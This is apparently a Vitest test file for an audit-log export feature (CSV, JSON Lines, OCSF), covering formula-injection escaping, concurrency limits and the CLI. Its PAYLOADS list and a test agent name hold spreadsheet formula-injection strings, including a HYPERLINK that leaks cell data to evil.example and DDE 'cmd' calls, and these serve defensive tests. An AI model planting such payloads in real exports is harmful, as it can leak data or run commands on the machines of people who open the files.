import { mkdtemp, readFile, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import Ajv from "ajv";
import pg from "pg";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Actor } from "@/lib/auth/actor";
import { MAX_CONCURRENT_EXPORTS, runningExports, startAuditExport } from "@/lib/audit/export";
import { createPrismaClient } from "@/lib/db/client";
import { isAppError } from "@/lib/errors/app-error";
import { ocsfClassOf } from "@/lib/audit/export/ocsf";
import { recordAuditEvent } from "@/lib/audit/record";
import { verifyAuditChain } from "@/lib/audit/verify";
import { insertEvents, proxyDecisions } from "../../support/audit-events";
import { runCli } from "../../support/cli";
import { createTestDatabase, type TestDatabase } from "../../support/database";
import { makeUser } from "../../support/factories";
import { makeFleet } from "./fleet";

/** RFC 4180 parser (quoted fields, doubled quotes, CRLF records), written independently of the exporter. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    if (text[i] !== '"') throw new Error(`field at ${i} is not quoted`);
    let value = "";
    i++;
    for (;;) {
      const q = text.indexOf('"', i);
      if (q < 0) throw new Error("unterminated field");
      value += text.slice(i, q);
      if (text[q + 1] === '"') {
        value += '"';
        i = q + 2;
      } else {
        i = q + 1;
        break;
      }
    }
    row.push(value);
    if (text[i] === ",") i++;
    else if (text.startsWith("\r\n", i)) {
      rows.push(row);
      row = [];
      i += 2;
    } else throw new Error(`unexpected ${JSON.stringify(text[i])} at ${i}`);
  }
  return rows;
}

async function collect(chunks: AsyncIterable<string>): Promise<string> {
  let out = "";
  for await (const c of chunks) out += c;
  return out;
}

const PAYLOADS = [
  "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "   =1+1",
  "＝1+1",
  'say "hi", then, leave',
  "line one\r\nline two\nline three",
  "plain text",
];
const FORMULA = /^[\s\u00a0]*[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/;

describe("audit exports: CSV, JSON Lines, OCSF", () => {
  let t: TestDatabase;
  let pool: pg.Pool;
  let auditor: Actor;
  let dir: string;
  let fleet: Awaited<ReturnType<typeof makeFleet>>;

  beforeAll(async () => {
    t = await createTestDatabase();
    pool = new pg.Pool({ connectionString: t.url, max: 3 });
    const admin = await makeUser(t.db, "admin");
    auditor = (await makeUser(t.db, "auditor")).actor;
    dir = await mkdtemp(path.join(tmpdir(), "bh-audit-export-"));
    fleet = await makeFleet(t.db, admin.user.id, 2, 1);
    // An agent and a task whose names are attacks too (names are shown in exports).
    const evilAgent = await t.db.agent.create({ data: { name: "=cmd|' /C calc'!A0", ownerId: admin.user.id } });
    const evilTask = await t.db.task.create({ data: { agentId: evilAgent.id, purpose: "@SUM(1)+\"quoted\"\nnext", policyYaml: "rules: []\n", expiresAt: new Date(Date.now() + 3600_000) } });
    await insertEvents(pool, proxyDecisions(fleet, 300, { seed: 3 }));
    await insertEvents(
      pool,
      PAYLOADS.map((p, i) => ({
        type: "proxy.decision",
        actorType: "agent",
        actorId: evilAgent.id,
        agentId: evilAgent.id,
        taskId: evilTask.id,
        outcome: i % 2 ? "deny" : "allow",
        effect: "irreversible",
        reason: p,
        ruleId: p,
        data: { eventId: `inj-${i}`, method: "POST", url: `https://api.example.test/${p}`, service: "railway", code: "policy_deny", kind: "denied", actions: [{ service: "railway", environment: "production", resource: p, operation: p, effect: "irreversible" }] },
      })),
    );
    await recordAuditEvent(t.db, { type: "auth.signed_in", actor: { actorType: "user", actorId: admin.user.id }, outcome: "allow" });
    await recordAuditEvent(t.db, { type: "auth.sign_in_failed", actor: { kind: "system", label: "sign-in" }, outcome: "deny", reason: "wrong password", data: { email: "=evil@example.test" } });
    await recordAuditEvent(t.db, { type: "api_key.auth_failed", actor: { actorType: "api_key", actorId: "00000000-0000-4000-8000-000000000000" }, outcome: "deny", reason: "revoked" });
    await recordAuditEvent(t.db, {
      type: "api_key.auth_failures_summarised",
      actor: { actorType: "api_key", actorId: "00000000-0000-4000-8000-000000000000" },
      outcome: "deny",
      reason: "41 more failed authentications (revoked) within a minute",
      data: { failures: 41, reason: "revoked", from: "2026-12-05T01:00:00.000Z", to: "2026-12-05T01:01:00.000Z" },
    });
    await recordAuditEvent(t.db, { type: "task.created", actor: admin.actor, agentId: evilAgent.id, taskId: evilTask.id, data: { purpose: evilTask.purpose } });
    await recordAuditEvent(t.db, { type: "credential.deleted", actor: { kind: "system", label: "cli" }, data: { name: "-x" } });
  });
  afterAll(async () => {
    await pool.end();
    await rm(dir, { recursive: true, force: true });
    await t.drop();
  });

  it("CSV: RFC 4180, and no agent-controlled cell can start a formula", async () => {
    const exp = await startAuditExport(t.db, auditor, { format: "csv" }, { via: "api" });
    const text = await collect(exp.chunks);
    const rows = parseCsv(text);
    const header = rows[0]!;
    expect(header.slice(0, 3)).toEqual(["seq", "at", "type"]);
    const total = await t.db.auditEvent.count({ where: { seq: { lte: BigInt(exp.throughSeq) } } });
    expect(rows).toHaveLength(total + 1);
    for (const row of rows) {
      expect(row).toHaveLength(header.length);
      for (const cell of row) expect(FORMULA.test(cell), JSON.stringify(cell)).toBe(false);
    }
    // Each payload survives, as text, behind one apostrophe when it would have been a formula.
    const col = (name: string) => header.indexOf(name);
    const injected = rows.filter((r) => r[col("agent_name")] === "'=cmd|' /C calc'!A0" && r[col("type")] === "proxy.decision");
    expect(injected).toHaveLength(PAYLOADS.length);
    for (const p of PAYLOADS) {
      const shown = FORMULA.test(p) ? `'${p}` : p;
      const row = injected.find((r) => r[col("reason")] === shown);
      expect(row, JSON.stringify(p)).toBeDefined();
      expect(row![col("rule_id")]).toBe(shown);
      expect(row![col("url")]).toBe(`https://api.example.test/${p}`);
      expect(row![col("task_purpose")]).toBe("'@SUM(1)+\"quoted\"\nnext");
      expect(row![col("actions")]).toBe(`railway/production: ${p} ${p} (irreversible)`);
    }
  });

  it("JSON Lines: one parseable object per event, line breaks inside values stay inside them", async () => {
    const exp = await startAuditExport(t.db, auditor, { format: "jsonl", agent: "=cmd|' /C calc'!A0" }, { via: "api" });
    const lines = (await collect(exp.chunks)).split("\n");
    expect(lines.pop()).toBe("");
    const events = lines.map((l) => JSON.parse(l) as { seq: string; reason: string; data: { eventId: string }; agent: { name: string } });
    expect(events).toHaveLength(PAYLOADS.length + 1); // + task.created
    const decisions = events.filter((e) => e.data.eventId?.startsWith("inj-"));
    expect(decisions.map((e) => e.reason)).toEqual(PAYLOADS);
    expect(decisions.every((e) => e.agent.name === "=cmd|' /C calc'!A0")).toBe(true);
    for (let i = 1; i < events.length; i++) expect(BigInt(events[i]!.seq) > BigInt(events[i - 1]!.seq)).toBe(true);
  });

  it("OCSF: every line validates against the OCSF 1.3.0 schema of its class", async () => {
    const schema = JSON.parse(await readFile(path.resolve("tests/fixtures/ocsf/ocsf-1.3.0.schema.json"), "utf8")) as Record<string, unknown>;
    const ajv = new Ajv({ allErrors: true, strict: false });
    ajv.addSchema(schema);
    const id = schema.$id as string;
    const validators = {
      http_activity: ajv.compile({ $ref: `${id}#/definitions/http_activity` }),
      api_activity: ajv.compile({ $ref: `${id}#/definitions/api_activity` }),
      authentication: ajv.compile({ $ref: `${id}#/definitions/authentication` }),
    };
    const exp = await startAuditExport(t.db, auditor, { format: "ocsf" }, { via: "api" });
    const lines = (await collect(exp.chunks)).trimEnd().split("\n");
    const seen = { http_activity: 0, api_activity: 0, authentication: 0 };
    for (const line of lines) {
      const event = JSON.parse(line) as { class_uid: number; unmapped: { bulkhead: { type: string } } };
      const cls = ocsfClassOf(event.unmapped.bulkhead.type);
      seen[cls]++;
      const validate = validators[cls];
      expect(validate(event), `${event.unmapped.bulkhead.type}: ${ajv.errorsText(validate.errors)}\n${line.slice(0, 400)}`).toBe(true);
      expect(event.class_uid).toBe({ http_activity: 4002, api_activity: 6003, authentication: 3002 }[cls]);
    }
    expect(seen.http_activity).toBeGreaterThan(300);
    expect(seen.authentication).toBe(4);
    // A summary of repeated API key failures is those failures, counted over its window.
    const summary = lines.map((l) => JSON.parse(l) as Record<string, unknown> & { unmapped: { bulkhead: { type: string } } }).find((e) => e.unmapped.bulkhead.type === "api_key.auth_failures_summarised");
    expect(summary).toMatchObject({ class_uid: 3002, status: "Failure", count: 41, start_time: Date.parse("2026-12-05T01:00:00.000Z"), end_time: Date.parse("2026-12-05T01:01:00.000Z"), auth_protocol: "API key" });
    expect(seen.api_activity).toBeGreaterThanOrEqual(2);
    // The schema is not a rubber stamp: it refuses what OCSF forbids.
    const sample = JSON.parse(lines[0]!) as Record<string, unknown>;
    expect(validators.http_activity({ ...sample, activity_id: 42 })).toBe(false);
    expect(validators.http_activity({ ...sample, invented_field: 1 })).toBe(false);
    const { http_response: _drop, ...noResponse } = sample;
    expect(validators.http_activity(noResponse)).toBe(false);
  });

  it("maps proxy decisions to HTTP Activity fields an analyst filters on", async () => {
    const exp = await startAuditExport(t.db, auditor, { format: "ocsf", agent: "=cmd|' /C calc'!A0", outcome: "deny" }, { via: "api" });
    const first = JSON.parse((await collect(exp.chunks)).split("\n")[0]!) as Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any
    expect(first).toMatchObject({
      class_uid: 4002,
      activity_id: 6,
      type_uid: 400206,
      action_id: 2,
      disposition_id: 2,
      status_id: 2,
      severity_id: 4,
      http_request: { http_method: "POST", url: { hostname: "api.example.test", scheme: "https", port: 443 } },
      http_response: { code: 403 },
      dst_endpoint: { hostname: "api.example.test", svc_name: "railway" },
      actor: { user: { name: "=cmd|' /C calc'!A0", type: "AI agent" } },
      metadata: { version: "1.3.0", product: { name: "Bulkhead", vendor_name: "Bulkhead" } },
    });
    expect(first.unmapped.bulkhead.actions[0]).toMatchObject({ service: "railway", environment: "production", effect: "irreversible" });
  });

  it("exports the current filter only, up to the newest event when it started, and is audited both ends", async () => {
    const exp = await startAuditExport(t.db, auditor, { format: "jsonl", outcome: "deny", service: "railway" }, { via: "dashboard" });
    // Events written while the export runs are after its range.
    await insertEvents(pool, proxyDecisions(fleet, 50, { seed: 77 }));
    const lines = (await collect(exp.chunks)).trimEnd().split("\n");
    const expected = await t.db.auditEvent.count({ where: { seq: { lte: BigInt(exp.throughSeq) }, outcome: "deny", facets: { has: "service:railway" } } });
    expect(lines).toHaveLength(expected);
    const [started, finished] = await t.db.auditEvent.findMany({ where: { type: { in: ["audit.export_started", "audit.exported"] }, actorId: (auditor as { userId: string }).userId }, orderBy: { seq: "desc" }, take: 2 }).then((r) => r.reverse());
    expect(started!.data).toMatchObject({ via: "dashboard", format: "jsonl", filter: { outcome: ["deny"], service: ["railway"] }, throughSeq: exp.throughSeq });
    expect(finished!.data).toMatchObject({ status: "completed", rows: expected, format: "jsonl", filter: { outcome: ["deny"], service: ["railway"] } });
    expect(finished!.outcome).toBe("allow");
  });

  it("a cancelled export closes its cursor, records how far it got, and breaks nothing", async () => {
    await pool.query("SELECT 1"); // warm
    const exp = await startAuditExport(t.db, auditor, { format: "csv" }, { via: "api", batchSize: 50 });
    await exp.chunks.next(); // header
    await exp.chunks.next(); // first 50
    await exp.chunks.return(undefined);
    const open = await pool.query("SELECT count(*)::int AS n FROM pg_stat_activity WHERE datname = current_database() AND (state LIKE 'idle in transaction%' OR query ILIKE '%bulkhead_audit_export%') AND pid <> pg_backend_pid()");
    expect(open.rows[0].n).toBe(0);
    const finished = await t.db.auditEvent.findFirst({ where: { type: "audit.exported" }, orderBy: { seq: "desc" } });
    expect(finished!.data).toMatchObject({ status: "cancelled", rows: 50 });
    expect(finished!.outcome).toBe("cancel");
    expect(await verifyAuditChain(t.db, { checkpointKeys: null })).toMatchObject({ ok: true });
    // The next export runs to the end.
    const again = await startAuditExport(t.db, auditor, { format: "jsonl" }, { via: "api" });
    const n = (await collect(again.chunks)).trimEnd().split("\n").length;
    expect(n).toBe(await t.db.auditEvent.count({ where: { seq: { lte: BigInt(again.throughSeq) } } }));
  });

  it("runs a bounded number of exports at once, and drops a receiver that stops reading", async () => {
    const idleInTx = async () =>
      (await pool.query("SELECT count(*)::int AS n FROM pg_stat_activity WHERE datname = current_database() AND state LIKE 'idle in transaction%'")).rows[0].n as number;
    // Like the dashboard: a pool larger than the export limit, so exports never starve other requests.
    const db = createPrismaClient(t.url, MAX_CONCURRENT_EXPORTS + 3);
    const held = [];
    try {
      for (let i = 0; i < MAX_CONCURRENT_EXPORTS; i++) {
        const exp = await startAuditExport(db, auditor, { format: "jsonl" }, { via: "api", batchSize: 10 });
        await exp.chunks.next();
        held.push(exp);
      }
      const started = await t.db.auditEvent.count({ where: { type: "audit.export_started" } });
      const refused = await startAuditExport(db, auditor, { format: "csv" }, { via: "api" }).catch((e: unknown) => e);
      expect(isAppError(refused) && refused.statusCode).toBe(429);
      expect(await t.db.auditEvent.count({ where: { type: "audit.export_started" } })).toBe(started);
      // A receiver that gives up before the first chunk still frees its slot.
      await held.pop()!.chunks.return(undefined);
      const unread = await startAuditExport(db, auditor, { format: "csv" }, { via: "api" });
      await unread.chunks.return(undefined);
      expect(runningExports()).toBe(MAX_CONCURRENT_EXPORTS - 1);
    } finally {
      for (const exp of held) await exp.chunks.return(undefined);
      await db.$disconnect();
    }
    expect(runningExports()).toBe(0);
    expect(await idleInTx()).toBe(0);

    // Nobody reads for longer than the idle limit: the export is stopped and recorded as cancelled.
    const stalled = await startAuditExport(t.db, auditor, { format: "csv" }, { via: "api", batchSize: 10, idleMs: 300 });
    await stalled.chunks.next();
    await stalled.chunks.next();
    await expect.poll(() => runningExports(), { timeout: 10_000 }).toBe(0);
    expect(await idleInTx()).toBe(0);
    const finished = await t.db.auditEvent.findFirst({ where: { type: "audit.exported" }, orderBy: { seq: "desc" } });
    expect(finished!.data).toMatchObject({ status: "cancelled", rows: 10 });
  });

  it("holds the limit when many exports are asked for at once: the rest are 429, no connection is taken beyond it", async () => {
    // Each export holds a database connection for as long as its receiver reads. The limit was
    // checked before setting up (two queries and an audit event) and counted after: requests sent
    // together all passed the check, and a reader of the audit could hold the whole pool.
    const db = createPrismaClient(t.url, 20);
    const asked = 12;
    const outcomes = await Promise.allSettled(Array.from({ length: asked }, () => startAuditExport(db, auditor, { format: "jsonl" }, { via: "api", batchSize: 10 })));
    const started = outcomes.filter((o): o is PromiseFulfilledResult<Awaited<ReturnType<typeof startAuditExport>>> => o.status === "fulfilled").map((o) => o.value);
    try {
      const refused = outcomes.filter((o): o is PromiseRejectedResult => o.status === "rejected").map((o) => o.reason as unknown);
      expect(started).toHaveLength(MAX_CONCURRENT_EXPORTS);
      expect(refused.map((e) => isAppError(e) && e.statusCode)).toEqual(Array(asked - MAX_CONCURRENT_EXPORTS).fill(429));
      expect(runningExports()).toBe(MAX_CONCURRENT_EXPORTS);
      for (const exp of started) await exp.chunks.next();
    } finally {
      for (const exp of started) await exp.chunks.return(undefined);
      await db.$disconnect();
    }
    expect(runningExports()).toBe(0);
    // A set-up that fails (here: the database does not answer) gives its slot back.
    const gone = createPrismaClient("postgresql://nobody:nothing@127.0.0.1:1/none", 1);
    try {
      for (let i = 0; i < MAX_CONCURRENT_EXPORTS + 1; i++) await expect(startAuditExport(gone, auditor, { format: "csv" }, { via: "api" })).rejects.toBeTruthy();
    } finally {
      await gone.$disconnect();
    }
    expect(runningExports()).toBe(0);
  });

  it("bulkhead audit export writes the file and is recorded as the CLI's export", async () => {
    const file = path.join(dir, "out.csv");
    const run = await runCli(["audit", "export", "--format", "csv", "--output", file, "--outcome", "deny", "--type", "proxy.*", "--agent", "=cmd|' /C calc'!A0"], { database: t });
    expect(run.stderr.join("\n")).toMatch(/Exported the audit log as csv/);
    expect(run.code).toBe(0);
    const rows = parseCsv(await readFile(file, "utf8"));
    expect(rows.length - 1).toBe(PAYLOADS.filter((_, i) => i % 2).length);
    const finished = await t.db.auditEvent.findFirst({ where: { type: "audit.exported" }, orderBy: { seq: "desc" } });
    expect(finished).toMatchObject({ actorType: "system", actorId: "cli" });
    expect(finished!.data).toMatchObject({ via: "cli", status: "completed", rows: rows.length - 1, filter: { outcome: ["deny"], type: ["proxy.*"], agent: "=cmd|' /C calc'!A0" } });
    // The summary says how many events the file holds.
    expect(run.stderr.join("\n")).toContain(`: ${rows.length - 1} events.`);
    expect(run.stderr.join("\n")).not.toContain("No event matched");
    // A filter value that never occurs ("denied" for "deny") gives an empty file, and says so.
    const empty = await runCli(["audit", "export", "--format", "jsonl", "--output", path.join(dir, "empty.jsonl"), "--outcome", "denied"], { database: t });
    expect(empty.code).toBe(0);
    expect(empty.stderr.join("\n")).toContain(": 0 events.");
    expect(empty.stderr.join("\n")).toContain("--outcome: no event in the log has outcome denied (outcomes are words such as allow, deny");
    expect(empty.stderr.at(-1)).toBe("No event matched the filters: no event in the log has any of the --outcome values given.");
    expect(await readFile(path.join(dir, "empty.jsonl"), "utf8")).toBe("");
    const bad = await runCli(["audit", "export", "--format", "xml"], { database: t });
    expect(bad.code).not.toBe(0);
    expect(bad.stderr.join("\n")).toMatch(/format must be csv, jsonl or ocsf/);
  });
});
